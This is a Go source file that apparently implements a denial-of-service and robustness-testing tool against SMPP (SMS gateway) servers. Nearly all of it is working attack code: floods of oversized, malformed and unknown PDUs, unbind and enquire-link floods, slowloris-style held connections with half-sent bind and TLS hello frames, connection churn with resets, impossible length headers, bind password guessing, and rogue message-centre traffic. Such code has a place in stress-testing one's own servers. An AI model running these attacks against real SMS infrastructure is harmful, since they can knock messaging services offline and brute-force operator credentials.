package main

import (
	"encoding/binary"
	"net"
	"sync"
	"time"

	"github.com/smpp-go/smpp/pdu"
)

const (
	burst  = 100      // small PDUs in a write
	enough = 64 << 10 // octets of a write of a flood
	vendor = pdu.CommandID(0x00010203)
)

// attacks are what can be done. Each ends with its time and closes its connections.
var attacks = map[string]func(*attacker){
	// Bound, at speed.
	"large":     pump{block: large(&pdu.SubmitSM{}, pdu.CommandSubmitSM, false), bound: true, reads: true}.run,
	"tlvs":      pump{block: large(&pdu.SubmitSM{}, pdu.CommandSubmitSM, true), bound: true, reads: true}.run,
	"submits":   pump{block: many(burst, submitFrame()), bound: true, reads: true}.run,
	"deaf":      pump{block: many(burst, submitFrame()), bound: true}.run,
	"responses": pump{block: many(burst, responseFrame()), bound: true, reads: true}.run,
	"nacks":     pump{block: many(burst, frame(pdu.CommandGenericNack, 9, nil)), bound: true, reads: true}.run,
	"unknown":   pump{block: many(burst, frame(vendor, 9, nil)), bound: true, reads: true}.run,
	"malformed": pump{block: many(burst, frame(pdu.CommandSubmitSM, 9, []byte("abc"))), bound: true, reads: true}.run,
	"unbinds":   pump{block: many(4096, frame(pdu.CommandUnbind, 5, nil)), bound: true}.run,
	"lateresps": pump{
		begin: submitFrame(), block: large(&pdu.SubmitSMResp{}, pdu.CommandSubmitSMResp, true), bound: true, reads: true,
	}.run,
	"mixed": pump{begin: submitFrame(), block: mixed(), bound: true}.run,
	// Not bound, at speed.
	"enquire":     pump{block: many(enough/pdu.HeaderLen, frame(pdu.CommandEnquireLink, 1, nil))}.run,
	"enquireread": pump{block: many(burst, frame(pdu.CommandEnquireLink, 1, nil)), reads: true}.run,
	"badbinds":    pump{block: many(burst, frame(pdu.CommandBindTransceiver, 1, []byte("abc"))), reads: true}.run,
	"early":       pump{block: many(burst, submitFrame()), reads: true}.run,
	// One connection after the other.
	"probe":       func(a *attacker) { a.shots(probe) },
	"lengths":     func(a *attacker) { a.shots(wrongLength) },
	"churn":       churn,
	"guess":       guess,
	"zombies":     func(a *attacker) { a.zombies(append(bindFrame(evilID, secret), many(1000, submitFrame())...)) },
	"zombiebinds": func(a *attacker) { a.zombies(bindFrame(evilID, "wrong")) },
	// Held.
	"silent": func(a *attacker) { a.hold(nil, false, false) },
	"hello":  func(a *attacker) { a.hold(halfHello(), false, false) },
	"loris":  func(a *attacker) { a.hold(halfBind(), true, false) },
	"idle":   func(a *attacker) { a.hold(nil, false, true) },
	// As a message centre.
	"mc-large":     pump{block: large(&pdu.DeliverSM{}, pdu.CommandDeliverSM, false), bound: true, reads: true}.run,
	"mc-tlvs":      pump{block: large(&pdu.DeliverSM{}, pdu.CommandDeliverSM, true), bound: true, reads: true}.run,
	"mc-deaf":      pump{block: many(4096, frame(pdu.CommandEnquireLink, 1, nil)), bound: true}.run,
	"mc-malformed": pump{block: many(burst, frame(pdu.CommandDeliverSM, 9, []byte("abc"))), bound: true, reads: true}.run,
	"mc-lateresps": pump{
		begin: encode(3, &pdu.DeliverSM{}), block: large(&pdu.SubmitSMResp{}, pdu.CommandSubmitSMResp, true),
		bound: true, reads: true,
	}.run,
}

// mixed is something for every bound of a session at once.
func mixed() []byte {
	b := large(&pdu.SubmitSM{}, pdu.CommandSubmitSM, true)
	b = append(b, large(&pdu.SubmitSMResp{}, pdu.CommandSubmitSMResp, true)...)
	b = append(b, frame(pdu.CommandSubmitSM, 9, many(100_000, []byte("a")))...)
	return append(b, many(1000, frame(pdu.CommandEnquireLink, 9, nil))...)
}

func responseFrame() []byte { return encode(9, &pdu.SubmitSMResp{MessageID: "1"}) }

// pump writes the same octets again and again. A unit is a write.
type pump struct {
	begin, block []byte
	bound, reads bool
}

func (p pump) run(a *attacker) {
	a.each(func() {
		for !a.over() {
			conn := p.connect(a)
			if conn == nil {
				continue
			}
			if p.reads {
				go discard(conn)
			}
			if a.write(conn, p.begin) {
				for a.next() && a.write(conn, p.block) {
				}
			}
			_ = conn.Close()
		}
	})
}

func (p pump) connect(a *attacker) net.Conn {
	if p.bound {
		return a.bound()
	}
	conn := a.dial()
	if c, ok := conn.(*net.TCPConn); ok && !p.reads {
		_ = c.SetReadBuffer(4 << 10) // else it takes longer until the other end is stuck
	}
	return conn
}

// shots connects, writes, and reads until the other end closes. A unit is a connection.
func (a *attacker) shots(octets func(n int64) []byte) {
	a.each(func() {
		for a.next() {
			if conn := a.dial(); conn != nil {
				_ = conn.SetReadDeadline(time.Now().Add(time.Second)) // for the end of the attack is another
				if a.write(conn, octets(a.units.Load())) {
					discard(conn)
				}
				_ = conn.Close()
			}
		}
	})
}

func probe(int64) []byte { return []byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n") }

// wrongLength returns the beginnings of PDUs that can have no end.
func wrongLength(n int64) []byte {
	lengths := []uint32{0, 15, 4097, 1 << 20, 1<<31 - 1, 1<<32 - 1}
	b := frame(pdu.CommandBindTransceiver, 1, nil)
	binary.BigEndian.PutUint32(b, lengths[n%int64(len(lengths))])
	return b
}

// churn binds, submits and resets. A unit is a connection.
func churn(a *attacker) {
	octets := append(bindFrame(evilID, secret), many(20, submitFrame())...)
	a.each(func() {
		for i := 0; a.next(); i++ {
			if conn := a.dial(); conn != nil {
				a.write(conn, octets)
				if i%3 == 0 {
					time.Sleep(time.Millisecond) // so that some are bound
				}
				reset(conn)
			}
		}
	})
}

// guess tries passwords, on one connection as long as it lasts. A unit is a guess.
func guess(a *attacker) {
	wrong := bindFrame(evilID, "wrong")
	a.each(func() {
		for !a.over() {
			conn := a.dial()
			if conn == nil {
				continue
			}
			var n int64
			for a.next() && a.write(conn, wrong) {
				if _, err := readOne(conn); err != nil {
					break
				}
				n++
			}
			raise(&a.guesses, n)
			_ = conn.Close()
		}
	})
}

// zombies writes, closes its side and goes, however much is still at work for it. A unit is a connection.
func (a *attacker) zombies(octets []byte) {
	a.each(func() {
		for a.next() {
			conn := a.dial()
			if conn == nil {
				continue
			}
			if c, ok := conn.(*net.TCPConn); ok && a.write(conn, octets) {
				_ = c.CloseWrite() // closed below
			}
			_ = conn.SetReadDeadline(time.Now().Add(2 * again))
			discard(conn)
			_ = conn.Close()
		}
	})
}

// hold makes N connections, writes once and holds them, with an octet every half second if it dribbles.
func (a *attacker) hold(octets []byte, dribbles, binds bool) {
	conns := make([]net.Conn, 0, a.N)
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := range 16 {
		wg.Go(func() {
			for n := a.N * i / 16; n < a.N*(i+1)/16 && !a.over(); n++ {
				conn := a.held(octets, binds)
				if conn == nil {
					continue
				}
				mu.Lock()
				conns = append(conns, conn)
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	for !a.over() {
		time.Sleep(min(500*time.Millisecond, time.Until(a.end)))
		for _, conn := range conns {
			if dribbles && !a.over() {
				a.write(conn, []byte{1})
			}
		}
	}
	for _, conn := range conns {
		_ = conn.SetDeadline(time.Now().Add(time.Millisecond)) // enough to see its end, or not
		if err, ok := readEnd(conn).(net.Error); ok && err.Timeout() {
			a.alive.Add(1)
		}
		_ = conn.Close()
	}
}

func (a *attacker) held(octets []byte, binds bool) net.Conn {
	if binds {
		return a.bound()
	}
	conn, err := a.connect() // what begins no handshake has no TLS
	if err != nil {
		time.Sleep(again)
		return nil
	}
	a.conns.Add(1)
	a.write(conn, octets)
	return conn
}

// readEnd reads until the end and returns it.
func readEnd(conn net.Conn) error {
	for b := make([]byte, 512); ; {
		if _, err := conn.Read(b); err != nil {
			return err
		}
	}
}

// halfBind is the beginning of a bind as large as one may be.
func halfBind() []byte {
	b := frame(pdu.CommandBindTransceiver, 1, make([]byte, 4000))
	binary.BigEndian.PutUint32(b, 4096)
	return b
}

// halfHello is the beginning of a TLS handshake.
func halfHello() []byte {
	return append([]byte{0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3}, make([]byte, 50)...)
}
